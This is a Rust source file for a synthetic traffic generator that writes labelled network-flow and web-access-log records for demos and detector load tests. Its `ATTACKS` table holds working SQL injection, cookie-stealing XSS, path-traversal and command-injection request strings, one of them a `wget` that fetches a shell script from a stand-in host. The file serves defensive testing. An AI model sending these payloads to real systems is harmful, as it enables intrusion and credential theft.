//! `flowtag gen`: synthetic flow records with injected attacks, labelled, for demos and load
//! tests.
//!
//! ```text
//! flowtag gen --schema unsw --count 100000 > flows.csv
//! flowtag gen --schema cicflowmeter --count 1000 --rate 200 --format json | nc 127.0.0.1 5170
//! flowtag gen --schema access-log --format combined --count 100000 > access.log
//! ```
//!
//! `access-log` writes a small shop's web requests as nginx's `combined` format does (or, with
//! `--format json`, the fields the `combined` decoder gives, plus `label` and `attack`): pages,
//! searches, product and cart requests, logins, static files, from a few hundred clients, with
//! injected SQL injection, XSS, path traversal, command injection and scanner probes.
//!
//! Records carry the columns of the real formats: UNSW-NB15's partitioned files (`id` ...
//! `attack_cat`, `label`) or CICFlowMeter's 78 columns with `Label`. Every value is drawn from
//! distributions written here (shaped after each service's typical flows), never copied from a
//! dataset, and the columns of a record agree with each other (loads from bytes and duration,
//! CICFlowMeter's statistics computed from generated packets). Injected attacks: port scans,
//! floods, password brute force against FTP and SSH, and (UNSW) generic DNS attacks, each
//! labelled.

use std::io::Write;
use std::time::{Duration, Instant};

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use crate::decode::is_json_number;
use flowtag_plugin::json as js;

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Schema {
    Unsw,
    Cicflowmeter,
    AccessLog,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Csv,
    Json,
    /// The Combined Log Format (`access-log` only).
    Combined,
}

pub struct GenArgs {
    pub schema: Schema,
    pub count: u64,
    pub rate: Option<f64>,
    pub format: Format,
    pub seed: u64,
    pub attack_share: f64,
}

/// One generated record: (column, value text) pairs.
type Record = Vec<(&'static str, String)>;

pub fn run(args: GenArgs) -> i32 {
    match (args.schema, args.format) {
        (Schema::AccessLog, Format::Csv) | (Schema::Unsw | Schema::Cicflowmeter, Format::Combined) => {
            eprintln!(
                "flowtag gen: --schema access-log writes --format combined or json; the flow schemas csv or json"
            );
            return 2;
        }
        _ => {}
    }
    let stdout = std::io::stdout();
    let mut out = std::io::BufWriter::with_capacity(1 << 20, stdout.lock());
    // A write error means the reader went away (a pipe closed): done either way.
    let _ = write(&args, &mut out);
    0
}

/// Write `args.count` records to `out` (at `args.rate` per second, if set).
pub fn write(args: &GenArgs, out: &mut impl Write) -> std::io::Result<()> {
    let mut rng = StdRng::seed_from_u64(args.seed);
    let started = Instant::now();
    let mut line = Vec::with_capacity(2048);
    for i in 0..args.count {
        let attack = rng.gen_bool(args.attack_share.clamp(0.0, 1.0));
        let rec = match args.schema {
            Schema::Unsw => unsw(&mut rng, i + 1, attack),
            Schema::Cicflowmeter => cicflowmeter(&mut rng, attack),
            Schema::AccessLog => access_log(&mut rng, i, attack),
        };
        line.clear();
        if args.format == Format::Csv && i == 0 {
            let names: Vec<&str> = rec.iter().map(|(k, _)| *k).collect();
            line.extend_from_slice(names.join(",").as_bytes());
            line.push(b'\n');
        }
        match args.format {
            Format::Combined => combined_line(&rec, &mut line),
            Format::Csv => {
                for (k, (_, v)) in rec.iter().enumerate() {
                    if k > 0 {
                        line.push(b',');
                    }
                    line.extend_from_slice(v.as_bytes());
                }
            }
            Format::Json => {
                line.push(b'{');
                for (k, (name, v)) in rec.iter().enumerate() {
                    if k > 0 {
                        line.push(b',');
                    }
                    js::write_string(&mut line, name);
                    line.push(b':');
                    if is_json_number(v.as_bytes()) {
                        line.extend_from_slice(v.as_bytes());
                    } else {
                        js::write_string(&mut line, v);
                    }
                }
                line.push(b'}');
            }
        }
        line.push(b'\n');
        out.write_all(&line)?;
        if let Some(rate) = args.rate.filter(|r| *r > 0.0) {
            let due = started + Duration::from_secs_f64((i + 1) as f64 / rate);
            let now = Instant::now();
            if due > now {
                let _ = out.flush();
                std::thread::sleep(due - now);
            }
        }
    }
    out.flush()
}

/// Search words, product ids and agents of the generated shop.
const WORDS: [&str; 12] = [
    "shoes",
    "red dress",
    "laptop",
    "coffee",
    "garden chair",
    "lamp",
    "kids",
    "sale",
    "phone case",
    "jeans",
    "tent",
    "mug",
];
const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
];
/// Injected attacks: (kind, method, target), `{}` filled with a product id.
const ATTACKS: [(&str, &str, &str); 12] = [
    ("sqli", "GET", "/search?q=shoes%27%20OR%20%271%27%3D%271&page=1"),
    ("sqli", "GET", "/products/{}?ref=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("sqli", "GET", "/cart/add?item={}%3BDROP%20TABLE%20orders--&qty=1"),
    ("xss", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("xss", "GET", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&page=2"),
    ("traversal", "GET", "/static/../../../../etc/passwd"),
    ("traversal", "GET", "/download?file=..%2F..%2F..%2Fetc%2Fshadow"),
    ("traversal", "GET", "/static/%252e%252e%252f%252e%252e%252fwindows/win.ini"),
    ("command", "GET", "/api/v1/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
    ("command", "POST", "/api/v1/export?format=csv%7Cwget%20http%3A%2F%2F203.0.113.9%2Fx.sh"),
    ("scan", "GET", "/wp-admin/setup-config.php"),
    ("scan", "GET", "/.env"),
];

/// One request of the generated shop; `i` places it in time (100 a second from midnight).
fn access_log(rng: &mut StdRng, i: u64, attack: bool) -> Record {
    let item = rng.gen_range(1000..1400);
    let (kind, method, target, status) = if attack {
        let (kind, method, target) = ATTACKS[rng.gen_range(0..ATTACKS.len())];
        let status = [400, 403, 404, 500, 200][rng.gen_range(0..5)];
        (kind, method, target.replace("{}", &item.to_string()), status)
    } else {
        let word = WORDS[rng.gen_range(0..WORDS.len())].replace(' ', "+");
        let (method, target, status) = match rng.gen_range(0..100) {
            0..=19 => ("GET", "/".to_string(), 200),
            20..=39 => ("GET", format!("/products/{item}"), if rng.gen_bool(0.03) { 404 } else { 200 }),
            40..=54 => ("GET", format!("/search?q={word}&page={}", rng.gen_range(1..5)), 200),
            55..=64 => ("POST", format!("/cart/add?item={item}&qty={}", rng.gen_range(1..4)), 302),
            65..=69 => ("POST", "/login".to_string(), if rng.gen_bool(0.2) { 401 } else { 302 }),
            70..=89 => (
                "GET",
                ["/static/css/site.css", "/static/js/app.js", "/static/img/logo.png"][rng.gen_range(0..3)].to_string(),
                200,
            ),
            _ => (
                "GET",
                format!(
                    "/api/v1/items?limit={}&offset={}",
                    [10, 20, 50][rng.gen_range(0..3)],
                    rng.gen_range(0..20) * 10
                ),
                200,
            ),
        };
        ("-", method, target, status)
    };
    let secs = i / 100;
    let time = format!("05/Dec/2026:{:02}:{:02}:{:02} +0000", (secs / 3600) % 24, (secs / 60) % 60, secs % 60);
    let client = format!("10.{}.{}.{}", rng.gen_range(0..4), rng.gen_range(0..32), rng.gen_range(1..255));
    let bytes = if status == 200 { around(rng, 5200.0, 0.9).round() as u64 } else { rng.gen_range(0..400) };
    let referrer = if rng.gen_bool(0.4) { "https://shop.example/".to_string() } else { "-".to_string() };
    let agent = if attack && rng.gen_bool(0.5) {
        "sqlmap/1.7.11#stable (https://sqlmap.org)"
    } else {
        AGENTS[rng.gen_range(0..AGENTS.len())]
    };
    let (path, query) = target.split_once('?').map_or((target.as_str(), None), |(p, q)| (p, Some(q)));
    let mut rec: Record = vec![
        ("client_address", client),
        ("time", time),
        ("method", method.to_string()),
        ("target", target.clone()),
        ("path", path.to_string()),
    ];
    if let Some(q) = query {
        rec.push(("query", q.to_string()));
    }
    rec.extend([
        ("protocol", "HTTP/1.1".to_string()),
        ("status", status.to_string()),
        ("bytes", bytes.to_string()),
        ("referrer", referrer),
        ("user_agent", agent.to_string()),
        ("label", u8::from(attack).to_string()),
        ("attack", kind.to_string()),
    ]);
    rec
}

/// A generated request as nginx's `combined` format writes it.
fn combined_line(rec: &Record, line: &mut Vec<u8>) {
    let get = |k: &str| rec.iter().find(|(n, _)| *n == k).map_or("-", |(_, v)| v.as_str());
    let _ = write!(
        line,
        "{} - - [{}] \"{} {} {}\" {} {} \"{}\" \"{}\"",
        get("client_address"),
        get("time"),
        get("method"),
        get("target"),
        get("protocol"),
        get("status"),
        get("bytes"),
        get("referrer"),
        get("user_agent")
    );
}

/// A log-normal value around `median` (`spread` is the sigma of its log).
fn around(rng: &mut StdRng, median: f64, spread: f64) -> f64 {
    let z: f64 = rng.sample(rand_distr_normal());
    median * (spread * z).exp()
}

fn rand_distr_normal() -> impl rand::distributions::Distribution<f64> {
    // Box-Muller from two uniforms: enough for demo data, and no extra dependency.
    struct Normal;
    impl rand::distributions::Distribution<f64> for Normal {
        fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> f64 {
            let u1: f64 = rng.gen_range(f64::EPSILON..1.0);
            let u2: f64 = rng.gen();
            (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos()
        }
    }
    Normal
}

fn count(rng: &mut StdRng, median: f64, spread: f64, min: u64) -> u64 {
    (around(rng, median, spread).round() as u64).max(min)
}

fn pick<'a, T>(rng: &mut StdRng, items: &'a [(T, f64)]) -> &'a T {
    let total: f64 = items.iter().map(|(_, w)| w).sum();
    let mut x = rng.gen::<f64>() * total;
    for (item, w) in items {
        if x < *w {
            return item;
        }
        x -= w;
    }
    &items[items.len() - 1].0
}

fn num(v: f64) -> String {
    if v.fract() == 0.0 && v.abs() < 1e15 {
        format!("{}", v as i64)
    } else {
        format!("{v:.6}")
    }
}

/// The UNSW-NB15 partitioned-file columns of one flow.
fn unsw(rng: &mut StdRng, id: u64, attack: bool) -> Record {
    #[derive(Clone, Copy)]
    enum P {
        Dns,
        Http,
        Tcp,
        Smtp,
        Ftp,
        Ssh,
        Scan,
        Flood,
        BruteForce,
        Generic,
    }
    let p = if attack {
        *pick(rng, &[(P::Scan, 0.3), (P::Flood, 0.2), (P::BruteForce, 0.2), (P::Generic, 0.3)])
    } else {
        *pick(rng, &[(P::Dns, 0.3), (P::Http, 0.3), (P::Tcp, 0.25), (P::Smtp, 0.05), (P::Ftp, 0.05), (P::Ssh, 0.05)])
    };
    // Base values per profile: proto, service, state, duration, packets and bytes each way.
    let (proto, service, state, dur, spkts, dpkts, sbytes, dbytes, cat) = match p {
        P::Dns => {
            let (s, d) = (2, 2);
            (
                "udp",
                "dns",
                "CON",
                around(rng, 0.001, 0.5),
                s,
                d,
                count(rng, 146.0, 0.1, 60),
                count(rng, 178.0, 0.2, 60),
                "Normal",
            )
        }
        P::Http => {
            let s = count(rng, 10.0, 0.3, 4);
            let d = count(rng, 12.0, 0.5, 4);
            (
                "tcp",
                "http",
                "FIN",
                around(rng, 1.0, 0.6),
                s,
                d,
                s * count(rng, 86.0, 0.3, 40),
                d * count(rng, 150.0, 1.0, 40),
                "Normal",
            )
        }
        P::Tcp => {
            let s = count(rng, 10.0, 0.6, 2);
            let d = count(rng, 8.0, 0.7, 1);
            (
                "tcp",
                "-",
                "FIN",
                around(rng, 0.2, 1.2),
                s,
                d,
                s * count(rng, 65.0, 0.5, 40),
                d * count(rng, 45.0, 0.5, 40),
                "Normal",
            )
        }
        P::Smtp => (
            "tcp",
            "smtp",
            "FIN",
            around(rng, 0.2, 1.0),
            52,
            42,
            count(rng, 37232.0, 0.05, 1000),
            count(rng, 3380.0, 0.1, 100),
            "Normal",
        ),
        P::Ftp => {
            let s = count(rng, 16.0, 0.5, 6);
            ("tcp", "ftp", "FIN", around(rng, 1.2, 0.4), s, s.saturating_sub(2).max(4), s * 56, s * 57, "Normal")
        }
        P::Ssh => {
            let s = count(rng, 100.0, 0.6, 20);
            ("tcp", "ssh", "FIN", around(rng, 1.0, 0.8), s, s, s * 145, s * 171, "Normal")
        }
        P::Scan => {
            let tcp = rng.gen_bool(0.8);
            let (proto, state) =
                if tcp { ("tcp", *pick(rng, &[("INT", 0.5), ("REQ", 0.3), ("FIN", 0.2)])) } else { ("udp", "INT") };
            let s = count(rng, 1.5, 0.3, 1);
            (
                proto,
                "-",
                state,
                around(rng, 0.00001, 1.0),
                s,
                if state == "FIN" { 1 } else { 0 },
                s * count(rng, 60.0, 0.4, 40),
                0,
                "Reconnaissance",
            )
        }
        P::Flood => {
            let s = count(rng, 800.0, 1.0, 50);
            let size = count(rng, 500.0, 0.8, 28).min(1500);
            (if rng.gen_bool(0.7) { "udp" } else { "tcp" }, "-", "INT", around(rng, 2.0, 0.8), s, 0, s * size, 0, "DoS")
        }
        P::BruteForce => {
            let ftp = rng.gen_bool(0.5);
            let s = count(rng, 12.0, 0.3, 6);
            let d = count(rng, 10.0, 0.3, 4);
            (
                "tcp",
                if ftp { "ftp" } else { "ssh" },
                "FIN",
                around(rng, 3.0, 0.5),
                s,
                d,
                s * count(rng, 80.0, 0.2, 40),
                d * count(rng, 90.0, 0.2, 40),
                "BruteForce",
            )
        }
        P::Generic => ("udp", "dns", "INT", around(rng, 0.000009, 0.5), 2, 0, 114, 0, "Generic"),
    };
    let attack_like = cat != "Normal";
    // Hop counts and handshake times tell where the peers are, as in UNSW-NB15's testbed:
    // internal hosts (TTL 31/29, sub-millisecond handshakes), hosts across the router (62/252,
    // tens of milliseconds), and attack traffic (254/252 or 0).
    let internal = !attack_like && (matches!(service, "dns" | "smtp" | "ssh") || rng.gen_bool(0.65));
    let (sttl, dttl) = if attack_like {
        (254, if dpkts > 0 { 252 } else { 0 })
    } else if internal {
        (31, if dpkts > 0 { 29 } else { 0 })
    } else {
        (62, if dpkts > 0 { 252 } else { 0 })
    };
    let dur_s = dur.max(0.0);
    let load = |bytes: u64| if dur_s > 0.0 { bytes as f64 * 8.0 / dur_s } else { 0.0 };
    let inpkt = |pkts: u64| if pkts > 1 { dur_s * 1000.0 / (pkts - 1) as f64 } else { 0.0 };
    let (sinpkt, dinpkt) = (inpkt(spkts), inpkt(dpkts));
    let tcp = proto == "tcp";
    let handshake = tcp && state == "FIN";
    let (synack, ackdat) = match (handshake, internal) {
        (false, _) => (0.0, 0.0),
        (true, true) => (around(rng, 0.0006, 0.4), around(rng, 0.0004, 0.4)),
        (true, false) => (around(rng, 0.05, 0.5), around(rng, 0.045, 0.5)),
    };
    // Connection counters over the last 100 flows: attacks repeat the same source, port or pair.
    let few = |rng: &mut StdRng| count(rng, 2.5, 0.6, 1);
    let many = |rng: &mut StdRng| count(rng, 25.0, 0.5, 8);
    let (ct_srv_src, ct_dst_ltm, ct_src_dport_ltm, ct_dst_sport_ltm, ct_dst_src_ltm, ct_src_ltm, ct_srv_dst) = match cat
    {
        "Normal" => (few(rng), few(rng), 1, 1, few(rng), few(rng), few(rng)),
        "Reconnaissance" => (many(rng), many(rng), many(rng), 1, many(rng), many(rng), many(rng)),
        _ => (many(rng), few(rng), many(rng), few(rng), many(rng), many(rng), many(rng)),
    };
    let ftp = service == "ftp";
    let http = service == "http";
    let rate = if dur_s > 0.0 { (spkts + dpkts).saturating_sub(1) as f64 / dur_s } else { 0.0 };
    let row: Vec<(&'static str, String)> = vec![
        ("id", id.to_string()),
        ("dur", num(dur_s)),
        ("proto", proto.into()),
        ("service", service.into()),
        ("state", state.into()),
        ("spkts", spkts.to_string()),
        ("dpkts", dpkts.to_string()),
        ("sbytes", sbytes.to_string()),
        ("dbytes", dbytes.to_string()),
        ("rate", num(rate)),
        ("sttl", sttl.to_string()),
        ("dttl", dttl.to_string()),
        ("sload", num(load(sbytes))),
        ("dload", num(load(dbytes))),
        ("sloss", (if tcp { spkts / 5 } else { 0 }).to_string()),
        ("dloss", (if tcp { dpkts / 5 } else { 0 }).to_string()),
        ("sinpkt", num(sinpkt)),
        ("dinpkt", num(dinpkt)),
        ("sjit", num(sinpkt * rng.gen_range(0.5..50.0))),
        ("djit", num(dinpkt * rng.gen_range(0.5..3.0))),
        ("swin", (if tcp { 255 } else { 0 }).to_string()),
        ("stcpb", (if tcp { rng.gen::<u32>() } else { 0 }).to_string()),
        ("dtcpb", (if tcp && dpkts > 0 { rng.gen::<u32>() } else { 0 }).to_string()),
        ("dwin", (if tcp && dpkts > 0 { 255 } else { 0 }).to_string()),
        ("tcprtt", num(synack + ackdat)),
        ("synack", num(synack)),
        ("ackdat", num(ackdat)),
        ("smean", (sbytes / spkts.max(1)).to_string()),
        ("dmean", (if dpkts > 0 { dbytes / dpkts } else { 0 }).to_string()),
        ("trans_depth", (if http { 1 } else { 0 }).to_string()),
        ("response_body_len", (if http { count(rng, 300.0, 1.2, 0) } else { 0 }).to_string()),
        ("ct_srv_src", ct_srv_src.to_string()),
        (
            "ct_state_ttl",
            (if attack_like {
                2
            } else if sttl == 254 {
                1
            } else {
                0
            })
            .to_string(),
        ),
        ("ct_dst_ltm", ct_dst_ltm.to_string()),
        ("ct_src_dport_ltm", ct_src_dport_ltm.to_string()),
        ("ct_dst_sport_ltm", ct_dst_sport_ltm.to_string()),
        ("ct_dst_src_ltm", ct_dst_src_ltm.to_string()),
        ("is_ftp_login", (if ftp && (attack_like || rng.gen_bool(0.3)) { 1 } else { 0 }).to_string()),
        ("ct_ftp_cmd", (if ftp && (attack_like || rng.gen_bool(0.3)) { 1 } else { 0 }).to_string()),
        ("ct_flw_http_mthd", (if http { 1 } else { 0 }).to_string()),
        ("ct_src_ltm", ct_src_ltm.to_string()),
        ("ct_srv_dst", ct_srv_dst.to_string()),
        ("is_sm_ips_ports", "0".into()),
        ("attack_cat", cat.into()),
        ("label", (if attack_like { 1 } else { 0 }).to_string()),
    ];
    row
}

/// Summary statistics of a list of values: (sum, mean, std, max, min).
fn stats(v: &[f64]) -> (f64, f64, f64, f64, f64) {
    if v.is_empty() {
        return (0.0, 0.0, 0.0, 0.0, 0.0);
    }
    let sum: f64 = v.iter().sum();
    let mean = sum / v.len() as f64;
    let var = if v.len() > 1 { v.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / (v.len() - 1) as f64 } else { 0.0 };
    let max = v.iter().copied().fold(f64::MIN, f64::max);
    let min = v.iter().copied().fold(f64::MAX, f64::min);
    (sum, mean, var.sqrt(), max, min)
}

/// CICFlowMeter's 78 columns of one flow, computed from generated packets.
fn cicflowmeter(rng: &mut StdRng, attack: bool) -> Record {
    #[derive(Clone, Copy, PartialEq)]
    enum P {
        Web,
        Dns,
        Tls,
        PortScan,
        Flood,
        FtpBrute,
        SshBrute,
    }
    let p = if attack {
        *pick(rng, &[(P::PortScan, 0.4), (P::Flood, 0.3), (P::FtpBrute, 0.15), (P::SshBrute, 0.15)])
    } else {
        *pick(rng, &[(P::Web, 0.35), (P::Dns, 0.35), (P::Tls, 0.3)])
    };
    // (destination port, fwd packets, bwd packets, fwd payload size, bwd payload size, mean gap in µs, label)
    let (port, nf, nb, fsize, bsize, gap, label, win_f, win_b) = match p {
        P::Web => (80, count(rng, 5.0, 0.6, 2), count(rng, 5.0, 0.7, 1), 180.0, 900.0, 20_000.0, "BENIGN", 29200, 235),
        P::Dns => (53, count(rng, 1.5, 0.4, 1), count(rng, 1.5, 0.4, 1), 40.0, 130.0, 30_000.0, "BENIGN", -1, -1),
        P::Tls => {
            (443, count(rng, 8.0, 0.8, 3), count(rng, 8.0, 0.8, 2), 120.0, 700.0, 60_000.0, "BENIGN", 8192, 31088)
        }
        P::PortScan => (rng.gen_range(1..65535), 1, 1, 0.0, 0.0, 40.0, "PortScan", 1024, 0),
        P::Flood => (80, count(rng, 5.0, 0.5, 3), count(rng, 1.0, 0.5, 0), 10.0, 0.0, 500_000.0, "DDoS", 256, -1),
        P::FtpBrute => {
            (21, count(rng, 6.0, 0.4, 2), count(rng, 6.0, 0.4, 1), 6.0, 14.0, 700_000.0, "FTP-Patator", 29200, 227)
        }
        P::SshBrute => {
            (22, count(rng, 14.0, 0.3, 4), count(rng, 12.0, 0.3, 4), 80.0, 160.0, 180_000.0, "SSH-Patator", 29200, 247)
        }
    };
    // Packets: (time µs, forward?, payload length).
    let mut packets: Vec<(f64, bool, f64)> = Vec::with_capacity((nf + nb) as usize);
    let mut t = 0.0;
    let (mut left_f, mut left_b) = (nf, nb);
    while left_f + left_b > 0 {
        let fwd = left_b == 0 || (left_f > 0 && (packets.is_empty() || rng.gen_bool(0.55)));
        let size = if fwd { fsize } else { bsize };
        let len = if size == 0.0 { 0.0 } else { around(rng, size, 0.5).round().min(1460.0) };
        packets.push((t, fwd, len));
        if fwd {
            left_f -= 1;
        } else {
            left_b -= 1;
        }
        t += around(rng, gap, 1.0).round().max(1.0);
    }
    let duration = packets.last().map(|p| p.0).unwrap_or(0.0);
    let lens = |fwd: bool| packets.iter().filter(|p| p.1 == fwd).map(|p| p.2).collect::<Vec<_>>();
    let gaps = |sel: &dyn Fn(&(f64, bool, f64)) -> bool| {
        let ts: Vec<f64> = packets.iter().filter(|p| sel(p)).map(|p| p.0).collect();
        ts.windows(2).map(|w| w[1] - w[0]).collect::<Vec<_>>()
    };
    let (fl, bl) = (lens(true), lens(false));
    let all: Vec<f64> = packets.iter().map(|p| p.2).collect();
    let (fsum, fmean, fstd, fmax, fmin) = stats(&fl);
    let (bsum, bmean, bstd, bmax, bmin) = stats(&bl);
    let (_, amean, astd, amax, amin) = stats(&all);
    let (_, iat_mean, iat_std, iat_max, iat_min) = stats(&gaps(&|_| true));
    let (fiat_tot, fiat_mean, fiat_std, fiat_max, fiat_min) = stats(&gaps(&|p| p.1));
    let (biat_tot, biat_mean, biat_std, biat_max, biat_min) = stats(&gaps(&|p| !p.1));
    let secs = duration / 1e6;
    let per_sec = |x: f64| if secs > 0.0 { num(x / secs) } else { "Infinity".to_string() };
    let n = (nf + nb) as f64;
    let header = if port == 53 { 8 } else { 20 };
    let syn = u8::from(p != P::Dns);
    let rst = u8::from(p == P::PortScan);
    let psh = u8::from(matches!(p, P::Web | P::Tls | P::FtpBrute | P::SshBrute));
    let v = |x: f64| num(x);
    vec![
        ("Destination Port", port.to_string()),
        ("Flow Duration", v(duration)),
        ("Total Fwd Packets", nf.to_string()),
        ("Total Backward Packets", nb.to_string()),
        ("Total Length of Fwd Packets", v(fsum)),
        ("Total Length of Bwd Packets", v(bsum)),
        ("Fwd Packet Length Max", v(fmax)),
        ("Fwd Packet Length Min", v(fmin)),
        ("Fwd Packet Length Mean", v(fmean)),
        ("Fwd Packet Length Std", v(fstd)),
        ("Bwd Packet Length Max", v(bmax)),
        ("Bwd Packet Length Min", v(bmin)),
        ("Bwd Packet Length Mean", v(bmean)),
        ("Bwd Packet Length Std", v(bstd)),
        ("Flow Bytes/s", per_sec(fsum + bsum)),
        ("Flow Packets/s", per_sec(n)),
        ("Flow IAT Mean", v(iat_mean)),
        ("Flow IAT Std", v(iat_std)),
        ("Flow IAT Max", v(iat_max)),
        ("Flow IAT Min", v(iat_min)),
        ("Fwd IAT Total", v(fiat_tot)),
        ("Fwd IAT Mean", v(fiat_mean)),
        ("Fwd IAT Std", v(fiat_std)),
        ("Fwd IAT Max", v(fiat_max)),
        ("Fwd IAT Min", v(fiat_min)),
        ("Bwd IAT Total", v(biat_tot)),
        ("Bwd IAT Mean", v(biat_mean)),
        ("Bwd IAT Std", v(biat_std)),
        ("Bwd IAT Max", v(biat_max)),
        ("Bwd IAT Min", v(biat_min)),
        ("Fwd PSH Flags", "0".into()),
        ("Bwd PSH Flags", "0".into()),
        ("Fwd URG Flags", "0".into()),
        ("Bwd URG Flags", "0".into()),
        ("Fwd Header Length", (nf * header).to_string()),
        ("Bwd Header Length", (nb * header).to_string()),
        ("Fwd Packets/s", per_sec(nf as f64)),
        ("Bwd Packets/s", per_sec(nb as f64)),
        ("Min Packet Length", v(amin)),
        ("Max Packet Length", v(amax)),
        ("Packet Length Mean", v(amean)),
        ("Packet Length Std", v(astd)),
        ("Packet Length Variance", v(astd * astd)),
        ("FIN Flag Count", u8::from(psh == 1).to_string()),
        ("SYN Flag Count", syn.to_string()),
        ("RST Flag Count", rst.to_string()),
        ("PSH Flag Count", psh.to_string()),
        ("ACK Flag Count", u8::from(nb > 0 && p != P::PortScan).to_string()),
        ("URG Flag Count", "0".into()),
        ("CWE Flag Count", "0".into()),
        ("ECE Flag Count", "0".into()),
        ("Down/Up Ratio", (nb / nf.max(1)).to_string()),
        ("Average Packet Size", v(if n > 0.0 { (fsum + bsum) / n } else { 0.0 })),
        ("Avg Fwd Segment Size", v(fmean)),
        ("Avg Bwd Segment Size", v(bmean)),
        ("Fwd Avg Bytes/Bulk", "0".into()),
        ("Fwd Avg Packets/Bulk", "0".into()),
        ("Fwd Avg Bulk Rate", "0".into()),
        ("Bwd Avg Bytes/Bulk", "0".into()),
        ("Bwd Avg Packets/Bulk", "0".into()),
        ("Bwd Avg Bulk Rate", "0".into()),
        ("Subflow Fwd Packets", nf.to_string()),
        ("Subflow Fwd Bytes", v(fsum)),
        ("Subflow Bwd Packets", nb.to_string()),
        ("Subflow Bwd Bytes", v(bsum)),
        ("Init_Win_bytes_forward", win_f.to_string()),
        ("Init_Win_bytes_backward", win_b.to_string()),
        ("act_data_pkt_fwd", fl.iter().filter(|l| **l > 0.0).count().to_string()),
        ("min_seg_size_forward", header.to_string()),
        ("Active Mean", "0".into()),
        ("Active Std", "0".into()),
        ("Active Max", "0".into()),
        ("Active Min", "0".into()),
        ("Idle Mean", "0".into()),
        ("Idle Std", "0".into()),
        ("Idle Max", "0".into()),
        ("Idle Min", "0".into()),
        ("Label", label.into()),
    ]
}
